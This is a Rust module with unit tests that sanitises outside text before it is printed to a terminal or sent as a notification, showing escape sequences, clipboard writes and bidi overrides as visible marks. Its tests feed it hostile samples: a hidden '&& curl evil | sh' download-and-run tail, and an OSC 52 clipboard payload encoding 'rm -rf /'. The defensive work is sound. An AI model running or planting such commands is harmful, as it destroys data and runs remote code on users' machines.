//! Text from outside (a session's title, a command, a question, a box's error, a pane's screen)
//! on its way to a terminal or a notification (issue 34): one sanitiser, so nothing printed can
//! move the cursor, clear the screen, hide what follows (`ESC[8m`), write the clipboard (OSC 52),
//! ring the bell, or reorder what is read (bidi overrides). Each such character is made visible
//! instead of dropped, so what was sent can still be seen.

/// `text` safe to print: line breaks and tabs kept; every other control character (C0, DEL,
/// C1) and the bidi controls shown as a visible mark — ESC as `␛`, BEL as `␇`, a C1 or bidi
/// control as `<U+009B>`.
pub fn printable(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' => out.push(c),
            // C0 controls have their pictures at U+2400 + code: ␛ for ESC, ␇ for BEL, ␍ for CR.
            '\0'..='\u{1f}' => out.push(char::from_u32(0x2400 + c as u32).unwrap_or('?')),
            '\u{7f}' => out.push('␡'),
            '\u{80}'..='\u{9f}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {
                out.push_str(&format!("<U+{:04X}>", c as u32));
            }
            _ => out.push(c),
        }
    }
    out
}

/// [`printable`] on one line: line breaks too are made visible (`␊`).
pub fn printable_line(text: &str) -> String {
    printable(text).replace('\n', "␊").replace('\t', " ")
}

/// At most `most` characters of `text`, with `…` when clipped.
pub fn clip_chars(text: &str, most: usize) -> String {
    if text.chars().count() <= most {
        return text.to_owned();
    }
    text.chars().take(most.saturating_sub(1)).collect::<String>() + "…"
}

/// A notification body for servers that read markup (`<b>`, `<a href>`, `<img>`): `&`, `<` and
/// `>` as entities, and the text [`printable`].
pub fn notification_body(text: &str) -> String {
    printable(text).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn osc_52_csi_bel_and_hidden_text_are_made_visible() {
        // An OSC 52 clipboard write, ended by BEL.
        let osc = "title\x1b]52;c;cm0gLXJmIC8=\x07 end";
        assert_eq!(printable(osc), "title␛]52;c;cm0gLXJmIC8=␇ end");
        // Clear the screen; hide the tail of a command.
        assert_eq!(printable("ls\x1b[2J"), "ls␛[2J");
        assert_eq!(printable("rm -rf build \x1b[8m&& curl evil | sh"), "rm -rf build ␛[8m&& curl evil | sh");
        assert!(!printable(osc).contains('\x1b') && !printable(osc).contains('\x07'));
    }

    #[test]
    fn c1_controls_del_cr_and_bidi_overrides_are_made_visible_and_text_is_kept() {
        assert_eq!(printable("a\u{9b}2Jb"), "a<U+009B>2Jb", "C1 CSI");
        assert_eq!(printable("x\u{7f}y"), "x␡y");
        assert_eq!(printable("safe\roverwritten"), "safe␍overwritten", "a CR cannot overwrite the line");
        assert_eq!(printable("a\u{202e}cba"), "a<U+202E>cba");
        assert_eq!(printable("line one\n\tline two — ünïcödé ✓"), "line one\n\tline two — ünïcödé ✓");
        assert_eq!(printable_line("a\nb"), "a␊b");
    }

    #[test]
    fn notification_bodies_are_markup_escaped() {
        assert_eq!(
            notification_body("<a href=\"x\">click</a> & <b>\x1b[2J"),
            "&lt;a href=\"x\"&gt;click&lt;/a&gt; &amp; &lt;b&gt;␛[2J"
        );
    }

    #[test]
    fn clipping_counts_characters() {
        assert_eq!(clip_chars("héllo", 3), "hé…");
        assert_eq!(clip_chars("héllo", 5), "héllo");
    }
}
